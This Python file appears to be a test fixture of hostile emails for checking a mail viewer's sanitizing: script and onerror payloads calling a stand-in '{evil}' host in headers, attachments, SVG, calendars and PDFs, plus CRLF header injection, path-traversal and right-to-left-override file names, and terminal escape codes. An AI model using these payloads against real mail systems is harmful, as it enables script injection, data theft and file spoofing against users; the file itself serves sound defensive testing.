"""Mails that attack with what is not their HTML: headers, texts, file names, content types and calendars."""

SCRIPT = "<img src=x onerror=fetch('{evil}/other')><script>fetch('{evil}/other')</script>"


def _mail(*headers: str, body: str = "x") -> str:
    return "\r\n".join(["From: shop@example.com", "To: ann@example.com", *headers, "", body, ""])


def _attached(disposition: str, content_type: str, body: str = SCRIPT, more: str = "X-Part: 1") -> str:
    return _mail(
        "Subject: attached",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=b",
        body=(
            f"--b\r\nContent-Type: text/plain\r\n\r\ntext\r\n--b\r\nContent-Type: {content_type}\r\n"
            f"Content-Disposition: {disposition}\r\n{more}\r\n\r\n{body}\r\n--b--"
        ),
    )


ALL = {
    "markup in the subject": _mail(f"Subject: {SCRIPT}"),
    "markup in an encoded subject": _mail(
        "Subject: =?utf-8?q?=3Cscript=3Efetch=28=27{evil}/q=27=29=3C/script=3E?="
    ),
    "direction override in the subject": _mail("Subject: =?utf-8?b?4oCuZmRwLmV4ZSDigK4=?="),
    "markup in names and addresses": _mail(f'Cc: "{SCRIPT}" <{SCRIPT}@example.com>', f"Reply-To: {SCRIPT}"),
    "markup in any header": _mail(
        f"X-{SCRIPT.split(' ')[0][1:]}: {SCRIPT}", f"Received: from {SCRIPT} by {SCRIPT}; {SCRIPT}"
    ),
    "a header that breaks the line": _mail(
        "Subject: a\r\n <script>fetch('{evil}/fold')</script>", "X: \x0b\x0cy\x85z"
    ),
    "markup in the text": _mail("Subject: text", body=f"{SCRIPT}\r\n</pre></main>{SCRIPT}"),
    "links in the text": _mail(
        "Subject: links",
        body="javascript:fetch(`{evil}/t`) https://x.example/\"><script>fetch('{evil}/t2')</script>",
    ),
    "no headers at all": f"\r\n{SCRIPT}\r\n",
    "binary": "Subject: \x00\x01\x02\r\n\r\n\x00\x1b]0;owned\x07\x1b[2J",
    "html attachment": _attached('attachment; filename="page.html"', "text/html"),
    "html that is shown inline": _attached("inline", "application/xhtml+xml"),
    "svg attachment": _attached(
        'inline; filename="i.svg"',
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{evil}/svgatt')\"/>",
    ),
    "html that says it is a picture": _attached('inline; filename="i.png"', "image/png"),
    "picture that says it is html": _attached('inline; filename="i.png"', "text/html; name=i.png", "\x89PNG"),
    "content type with markup": _attached('attachment; filename="a"', f"text/{SCRIPT}"),
    "content type with a line break": _attached(
        'attachment; filename="a"', 'text/plain;\r\n\tcharset="x\r\n Set-Cookie: a=b"'
    ),
    "charset with markup": _attached("inline", 'text/plain; charset="</pre><script>"'),
    "file name with markup": _attached(
        "attachment; filename*=utf-8''%22%3E%3Cscript%3Efetch('{evil}/fn')%3C/script%3E", "text/plain"
    ),
    "file name that leaves the folder": _attached(
        'attachment; filename="../../../../etc/cron.d/x"', "text/plain"
    ),
    "file name of another system": _attached(
        'attachment; filename="C:\\\\Windows\\\\..\\\\x.bat"', "text/plain"
    ),
    "file name that reads backwards": _attached(
        "attachment; filename*=utf-8''a%E2%80%AEgnp.exe", "application/x-msdownload"
    ),
    "file name with line breaks": _attached(
        "attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20b=c%0D%0A.txt", "text/plain"
    ),
    "file name that is very long": _attached(f'attachment; filename="{"x" * 5000}.txt"', "text/plain"),
    "content id with an expression": _attached(
        "inline", "image/png", "\x89PNG", "Content-ID: <(.*)+$\"><script>fetch('{evil}/cid')</script>>"
    ),
    "calendar with markup": _attached(
        'attachment; filename="i.ics"',
        "text/calendar",
        f'BEGIN:VEVENT\r\nSUMMARY:{SCRIPT}\r\nLOCATION:{SCRIPT}\r\nATTENDEE;CN="{SCRIPT}":mailto:{SCRIPT}\r\nEND:VEVENT',
    ),
    "script file": _attached('inline; filename="x.js"', "text/javascript", "fetch('{evil}/js')"),
    "xml with a style sheet": _attached(
        'inline; filename="x.xml"', "text/xml", "<?xml-stylesheet href='{evil}/x.xsl' type='text/xsl'?><a/>"
    ),
    "pdf with script": _attached(
        'inline; filename="x.pdf"',
        "application/pdf",
        "%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    ),
    "attached mail": _attached(
        "inline", "message/rfc822", f"Subject: {SCRIPT}\r\nContent-Type: text/html\r\n\r\n{SCRIPT}"
    ),
    "unsubscribe by script": _mail(
        "List-Unsubscribe: <javascript:fetch(`{evil}/u`)>", f"List-Unsubscribe-Post: {SCRIPT}"
    ),
    "boundary with markup": _mail(
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="<script>"',
        body="--<script>\r\n\r\nx\r\n--<script>--",
    ),
}
